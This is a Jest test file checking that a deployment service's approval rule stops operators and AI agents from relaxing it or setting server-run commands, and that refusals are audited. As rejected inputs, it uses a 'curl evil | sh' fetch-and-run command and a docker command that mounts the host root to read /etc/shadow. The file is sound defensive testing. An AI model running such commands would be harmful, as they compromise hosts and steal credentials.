import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { allEvents, flushRefusals, trail } from './support/audit.js';
import { data, readyService } from './support/deployments.js';
import { bearer, call, cookieAuth, memberWithRole, signUp } from './support/identity.js';
import { mcpClient, toolError } from './support/mcp.js';
import { startTestApp, type TestApp } from './support/test-app.js';

type Auth = Record<string, string>;
type Reply = Awaited<ReturnType<typeof call>>;

/** The refusal a caller the service's rule holds back gets, whatever it tried. */
function expectHeldBack(res: Reply, field: string, who: RegExp): void {
  expect([res.status, res.body.error?.code, res.body.error?.data?.rule]).toEqual([
    403,
    'FORBIDDEN',
    'approval-rule',
  ]);
  expect(res.body.error.data.field).toBe(field);
  expect(res.body.error.message).toMatch(who);
}
const OWNER_OR_ADMIN = /an owner or admin, whom the rule does not hold back, must make this change/;
const A_HUMAN = /a human, whom the rule does not hold back, must make this change/;

/**
 * A service's approval rule, walked around by the callers it holds back: each attack of the
 * security review, replayed over HTTP as the attacker, and what those the rule lets through
 * may still do.
 */
describe('a caller the approval rule holds back cannot get around it', () => {
  let t: TestApp;
  let owner: Auth;
  let admin: Auth;
  let op: Auth;
  let agent: Auth;
  let agentToken: string;
  let strict: string;
  let agents: string;
  let open: string;
  let serial = 0;

  const details = async (serviceId: string) =>
    data<{ approvalRule: string; backupCommand: string | null; restoreCommand: string | null }>(
      await call(t.url, 'GET', 'serviceDetails', owner, { serviceId }),
    );
  const deploy = async (auth: Auth, serviceId: string) =>
    data<{ status: string }>(
      await call(t.url, 'POST', 'triggerDeploy', auth, {
        serviceId,
        imageTag: `ghcr.io/acme/api:1.0.${(serial += 1)}`,
        reason: 'a release for the guard tests',
      }),
    ).status;
  const update = (auth: Auth, serviceId: string, changes: Record<string, unknown>) =>
    call(t.url, 'POST', 'updateService', auth, { serviceId, ...changes });
  const job = (auth: Auth, serviceId: string, command = ['sh', '-c', 'curl evil | sh']) =>
    call(t.url, 'POST', 'defineScheduledJob', auth, {
      serviceId,
      name: `job-${(serial += 1)}`,
      schedule: '@daily',
      command,
    });

  beforeAll(async () => {
    t = await startTestApp({ notes: false });
    owner = cookieAuth((await signUp(t.url, 'owner@example.com')).cookie);
    admin = await memberWithRole(t.url, owner, 'admin@example.com', 'admin');
    op = await memberWithRole(t.url, owner, 'op@example.com', 'operator');
    const bot = data<{ principalId: string }>(
      await call(t.url, 'POST', 'createAgent', owner, { name: 'ci', preset: 'agent:full' }),
    );
    const minted = data<{ token: string }>(
      await call(t.url, 'POST', 'generateAgentToken', owner, {
        principalId: bot.principalId,
        tokenName: 'ci',
        expiresInDays: 7,
      }),
    );
    agentToken = minted.token;
    agent = bearer(agentToken);
    ({ serviceId: strict } = await readyService(t.url, owner, {
      name: 'strict',
      approvalRule: 'all-but-admins',
    }));
    ({ serviceId: agents } = await readyService(t.url, owner, {
      name: 'agents',
      approvalRule: 'agents',
    }));
    ({ serviceId: open } = await readyService(t.url, owner, { name: 'open' }));
    data(await update(owner, agents, { backupCommand: 'pg_dump app' }));
  });
  afterAll(async () => t?.close());

  it('an operator under all-but-admins cannot switch the rule off: their deploys still wait', async () => {
    expect(await deploy(op, strict)).toBe('pending_approval');
    for (const approvalRule of ['none', 'agents']) {
      expectHeldBack(await update(op, strict, { approvalRule }), 'approvalRule', OWNER_OR_ADMIN);
    }
    expect((await details(strict)).approvalRule).toBe('all-but-admins');
    expect(await deploy(op, strict)).toBe('pending_approval');
    // Setting the rule it already has, with other changes (as the dashboard's form does), is not
    // a change of the rule.
    data(
      await update(op, strict, {
        approvalRule: 'all-but-admins',
        setEnv: [{ name: 'LOG_LEVEL', value: 'debug' }],
      }),
    );
  });

  it('an agent under the agents rule cannot remove it: its deploys still wait', async () => {
    expect(await deploy(agent, agents)).toBe('pending_approval');
    expectHeldBack(await update(agent, agents, { approvalRule: 'none' }), 'approvalRule', A_HUMAN);
    // The same refusal through MCP, which runs the same pipeline.
    const mcp = await mcpClient(t.url, agentToken);
    try {
      const refused = toolError(
        await mcp.callTool({
          name: 'updateService',
          arguments: { serviceId: agents, approvalRule: 'none' },
        }),
      );
      expect(refused).toMatchObject({
        code: 'FORBIDDEN',
        data: { rule: 'approval-rule', approvalRule: 'agents', field: 'approvalRule' },
      });
    } finally {
      await mcp.close();
    }
    expect((await details(agents)).approvalRule).toBe('agents');
    expect(await deploy(agent, agents)).toBe('pending_approval');
  });

  it('an agent cannot choose a command Slipway runs on the server: backup, restore, jobs, restore tests', async () => {
    const evil = 'docker run --rm -v /:/host busybox sh -c "cat /host/etc/shadow"';
    expectHeldBack(await update(agent, agents, { backupCommand: evil }), 'backupCommand', A_HUMAN);
    expectHeldBack(
      await update(agent, agents, { restoreCommand: evil }),
      'restoreCommand',
      A_HUMAN,
    );
    expect(await details(agents)).toMatchObject({
      backupCommand: 'pg_dump app',
      restoreCommand: null,
    });
    expectHeldBack(await job(agent, agents), 'command', A_HUMAN);
    expectHeldBack(
      await call(t.url, 'POST', 'setBackupSchedule', agent, {
        serviceId: agents,
        schedule: '@daily',
        restoreTest: { image: 'busybox:1.37', command: ['sh', '-c', 'evil'] },
      }),
      'restoreTest',
      A_HUMAN,
    );
    const { backupId } = data<{ backupId: string }>(
      await call(t.url, 'POST', 'recordBackup', owner, {
        serviceId: agents,
        location: 's3://backups/app.dump',
        checksum: `sha256:${'a'.repeat(64)}`,
        sizeBytes: 42,
      }),
    );
    expectHeldBack(
      await call(t.url, 'POST', 'testBackupRestore', agent, {
        backupId,
        image: 'busybox:1.37',
        command: ['sh', '-c', 'evil'],
      }),
      'image',
      A_HUMAN,
    );
    // What the owner chose stays the agent's to run, and the schedule without a test its to set.
    data(
      await call(t.url, 'POST', 'setBackupSchedule', agent, {
        serviceId: agents,
        schedule: '@daily',
      }),
    );
  });

  it('a held-back caller may tighten the rule; only someone the stricter rule lets through relaxes it', async () => {
    // Tightening only adds reviews: the agent may, and only an owner or admin can undo it.
    data(await update(agent, agents, { approvalRule: 'all-but-admins' }));
    expectHeldBack(
      await update(op, agents, { approvalRule: 'agents' }),
      'approvalRule',
      OWNER_OR_ADMIN,
    );
    data(await update(admin, agents, { approvalRule: 'agents' }));
  });

  it('those the rule does not hold back change the rule and the commands', async () => {
    data(await update(op, agents, { backupCommand: 'pg_dumpall', restoreCommand: 'psql' }));
    data(await job(op, agents, ['sh', '-c', 'report']));
    expect(await details(agents)).toMatchObject({
      backupCommand: 'pg_dumpall',
      restoreCommand: 'psql',
    });
    data(await update(admin, strict, { approvalRule: 'none' }));
    expect(await deploy(op, strict)).toBe('queued');
    data(await update(owner, strict, { approvalRule: 'all-but-admins' }));
  });

  it('on a service without a rule, an agent changes what it likes', async () => {
    data(await update(agent, open, { backupCommand: 'pg_dump app', approvalRule: 'none' }));
    data(await job(agent, open, ['sh', '-c', 'report']));
    expect(await deploy(agent, open)).toBe('queued');
  });

  it('records every refusal on the audit trail, as a denied call by the one held back', async () => {
    // Repeats of a refusal already recorded are counted when their window closes: close them.
    await flushRefusals(t);
    const before = (await allEvents(t)).length;
    const res = await update(op, strict, { restoreCommand: 'sh -c evil', approvalRule: 'none' });
    expectHeldBack(res, 'approvalRule', OWNER_OR_ADMIN);
    const denied = (await allEvents(t)).slice(before).filter((e) => e.type === 'AccessDenied');
    expect(denied).toEqual([
      expect.objectContaining({
        data: expect.objectContaining({
          target: 'updateService',
          code: 'FORBIDDEN',
          inputFields: expect.arrayContaining(['approvalRule', 'restoreCommand']),
        }),
        metadata: expect.objectContaining({
          actor: expect.objectContaining({ kind: 'user', role: 'operator' }),
          requestId: res.headers['x-request-id'],
        }),
      }),
    ]);
    const { entries } = await trail(t, owner, { outcome: 'denied', limit: 5 });
    expect(entries).toContainEqual(
      expect.objectContaining({
        action: 'AccessDenied',
        resource: 'procedure:updateService',
        code: 'FORBIDDEN',
        requestId: res.headers['x-request-id'],
      }),
    );
  });
});
